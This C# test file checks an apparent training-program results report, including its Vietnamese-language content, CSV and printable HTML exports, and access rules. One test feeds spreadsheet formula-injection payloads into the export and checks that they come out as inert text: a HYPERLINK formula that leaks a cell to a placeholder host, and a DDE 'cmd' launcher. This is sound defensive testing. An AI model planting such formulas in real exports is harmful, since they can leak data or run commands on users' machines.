using System.Net;
using System.Net.Http.Json;
using System.Text;
using OrleansTraining.Gateway.Tests.Infrastructure;

namespace OrleansTraining.Gateway.Tests;

/// <summary>The results report as the 2012 document has it, read from the demo's 2011–2012 cycle, and its CSV and printable exports.</summary>
public sealed class ReportTests(SqliteGatewayFixture gateway) : IClassFixture<SqliteGatewayFixture>
{
    private const string Cycle2012 = "2011-2012";
    private readonly GatewaySession _session = gateway.Session;

    [Fact]
    public async Task The_2012_report_has_the_documents_topics_methods_lecturers_absent_units_ratings_materials_and_conclusions()
    {
        var report = await (await _session.BoardAsync()).GetJsonAsync($"/api/cycles/{Cycle2012}/report");

        var course = report.Items("courseDetails").Single();
        // "Nội dung ... gồm 7 chuyên đề", taught by lecture and guided discussion.
        Assert.Equal(7, course.Items("topics").Count());
        Assert.Contains("Một số vấn đề về công tác cán bộ", course.Items("topics").Select(t => t.Str("title")));
        Assert.Equal(["Lecture", "Discussion"], course.Items("methods").Select(m => m.GetString()!).ToArray());
        Assert.Equal(7, course.Items("lecturers").Count());
        // "Một số ít cấp ủy không cử cán bộ tham gia lớp bồi dưỡng."
        Assert.Equal(
            ["ca-mau", "cao-bang", "dien-bien", "lai-chau"],
            report.Items("provincesThatSentNobody").Select(p => p.GetString()!).Order(StringComparer.Ordinal).ToArray());
        Assert.Equal(4, report.Items("attendanceByProvince").Count(p => p.GetProperty("nominated").GetInt32() == 0));
        // "Giảng dạy chủ yếu là thuyết trình, phương pháp sư phạm hạn chế" while the discussions were lively.
        var byMethod = report.Items("evaluationByMethod").ToDictionary(e => e.Str("key"), e => e.GetProperty("method").GetDouble());
        Assert.True(byMethod["Lecture"] < byMethod["Discussion"], $"lectures {byMethod["Lecture"]} vs discussions {byMethod["Discussion"]}");
        Assert.Equal(7, report.Items("evaluationByTopic").Count());
        Assert.Equal(7, report.Items("evaluationByLecturer").Count());
        Assert.All(report.Items("evaluationByLecturer"), e => Assert.False(string.IsNullOrEmpty(e.Str("label"))));
        // "Cần gửi tài liệu tập huấn trước cho học viên": handed out on the first day, i.e. late.
        Assert.Equal("Late", course.Str("materials"));
        Assert.Equal(1, report.GetProperty("materialsLate").GetInt32());
        Assert.Contains("thuyết trình", report.Str("conclusions"), StringComparison.Ordinal);
        Assert.Contains(report.Items("recommendations"), r => r.Str("text").Contains("2 năm/lần", StringComparison.Ordinal));
        Assert.Contains(report.Items("recommendations"), r => r.Str("status") == "Open");
    }

    [Fact]
    public async Task The_report_exports_as_utf8_csv_with_a_bom_and_as_a_printable_vietnamese_document()
    {
        var board = await _session.BoardAsync();

        var csv = await board.GetAsync($"/api/cycles/{Cycle2012}/report.csv");
        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        Assert.Equal("text/csv", csv.Content.Headers.ContentType?.MediaType);
        var bytes = await csv.Content.ReadAsByteArrayAsync();
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes[3..]);
        Assert.Contains("Lai Châu", text, StringComparison.Ordinal);
        Assert.Contains(",Những vấn đề cơ bản về Điều lệ Đảng và hệ thống tổ chức bộ máy của Đảng,Thảo luận,", text, StringComparison.Ordinal);
        Assert.Contains("\"Quán triệt Nghị quyết Đại hội đại biểu toàn quốc lần thứ XI của Đảng và phương hướng, nhiệm vụ\"", text, StringComparison.Ordinal); // a comma in the title: quoted
        Assert.Contains("Gửi muộn", text, StringComparison.Ordinal);

        var html = await board.GetAsync($"/api/cycles/{Cycle2012}/report.html");
        Assert.Equal("text/html", html.Content.Headers.ContentType?.MediaType);
        var page = await html.Content.ReadAsStringAsync();
        Assert.Contains("<html lang=\"vi\">", page, StringComparison.Ordinal);
        Assert.Contains("@media print", page, StringComparison.Ordinal);
        foreach (var heading in new[] { "Nội dung, giảng viên và phương pháp", "Học viên theo tỉnh, thành phố", "Kết quả đánh giá của học viên", "Tài liệu gửi trước cho học viên", "Kết luận", "Kiến nghị" })
        {
            Assert.Contains(heading, page, StringComparison.Ordinal);
        }

        var nobody = page.Split('\n').Single(line => line.Contains("Cấp ủy không cử cán bộ tham gia", StringComparison.Ordinal));
        Assert.All(new[] { "Lai Châu", "Điện Biên", "Cao Bằng", "Cà Mau" }, name => Assert.Contains(name, nobody, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Text_a_spreadsheet_would_run_as_a_formula_is_exported_as_inert_text()
    {
        const string cycleId = "2191-2192";
        await new Scenario(_session).CreateCycleAsync(cycleId, courses: 1);
        var board = await _session.BoardAsync();
        await board.PutJsonAsync($"/api/cycles/{cycleId}/conclusions", new
        {
            conclusions = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"mở\")",
            recommendations = new[]
            {
                new { text = "+1+cmd|' /C calc'!A0", status = "Open" },
                new { text = "@SUM(1+1)", status = "Open" },
                new { text = "-2+3", status = "Open" },
                new { text = "Gửi tài liệu = sớm hơn", status = "Open" },
            },
        });

        var text = Encoding.UTF8.GetString((await board.GetByteArrayAsync($"/api/cycles/{cycleId}/report.csv"))[3..]);
        var lines = text.Split("\r\n");

        // Quoted (the formula holds commas and quotes) and behind an apostrophe, so the cell is text, not a formula.
        Assert.Contains("\"'=HYPERLINK(\"\"http://example.invalid/?leak=\"\"&A1,\"\"mở\"\")\"", lines);
        Assert.Contains("'+1+cmd|' /C calc'!A0,Chưa thực hiện,", lines);
        Assert.Contains("'@SUM(1+1),Chưa thực hiện,", lines);
        Assert.Contains("'-2+3,Chưa thực hiện,", lines);
        Assert.Contains("Gửi tài liệu = sớm hơn,Chưa thực hiện,", lines); // an = inside the text is harmless and kept as typed
        Assert.DoesNotContain(lines, line => line.Length > 0 && line[0] is '=' or '+' or '-' or '@');
    }

    [Theory]
    [InlineData("GET", "/api/cycles/2011-2012/report.csv")]
    [InlineData("GET", "/api/cycles/2011-2012/report.html")]
    [InlineData("PUT", "/api/cycles/2011-2012/conclusions")]
    [InlineData("POST", "/api/cycles/2011-2012/close")]
    [InlineData("POST", "/api/cycles/2011-2012/roll-over")]
    [InlineData("POST", "/api/courses/2011-2012-c01/held")]
    [InlineData("POST", "/api/courses/2011-2012-c01/attendance")]
    [InlineData("POST", "/api/courses/2011-2012-c01/evaluation-links")]
    [InlineData("POST", "/api/courses/2011-2012-c01/evaluations")]
    [InlineData("POST", "/api/courses/2011-2012-c01/close")]
    [InlineData("PUT", "/api/courses/2011-2012-c01/nominations/t001")]
    [InlineData("DELETE", "/api/courses/2011-2012-c01/nominations/t001")]
    [InlineData("GET", "/api/provinces/hue/open-courses")]
    [InlineData("GET", "/api/lecturers/l01/evaluations")]
    public async Task The_lifecycle_paths_need_a_token(string method, string path)
    {
        var response = await _session.Anonymous().SendAsync(new HttpRequestMessage(new HttpMethod(method), path));

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
    }

    [Theory]
    [InlineData("province-hue", "/api/cycles/2011-2012/report.csv")]
    [InlineData("lecturer-l01", "/api/cycles/2011-2012/report.html")]
    public async Task Only_the_board_exports_the_report(string userName, string path)
    {
        var response = await (await _session.AsAsync(userName)).GetAsync(path);

        await response.ProblemAsync(HttpStatusCode.Forbidden);
    }

    [Fact]
    public async Task The_board_writes_conclusions_and_recommendations_and_nobody_else_can()
    {
        await new Scenario(_session).CreateCycleAsync("2043-2044", courses: 1);
        var board = await _session.BoardAsync();
        var body = new { conclusions = "Kết luận của Ban Chỉ đạo.", recommendations = new[] { new { text = "Tăng tình huống cụ thể", status = "Open" } } };

        await (await (await _session.ProvinceAsync("hue")).PutAsJsonAsync("/api/cycles/2043-2044/conclusions", body)).ProblemAsync(HttpStatusCode.Forbidden);
        Assert.Null((await board.GetJsonAsync("/api/cycles/2043-2044/report")).StrOrNull("conclusions"));
        var blank = await board.PutAsJsonAsync("/api/cycles/2043-2044/conclusions", new { recommendations = new[] { new { text = "" } } });
        Assert.Equal(["recommendations[0].text"], (await blank.ProblemAsync(HttpStatusCode.BadRequest)).ErrorFields());
        await board.PutJsonAsync("/api/cycles/2043-2044/conclusions", body);

        var report = await board.GetJsonAsync("/api/cycles/2043-2044/report");
        Assert.Equal("Kết luận của Ban Chỉ đạo.", report.Str("conclusions"));
        Assert.Equal("Tăng tình huống cụ thể", report.Items("recommendations").Single().Str("text"));
        await (await board.PutAsJsonAsync("/api/cycles/1999-2000/conclusions", body)).ProblemAsync(HttpStatusCode.NotFound);
    }
}
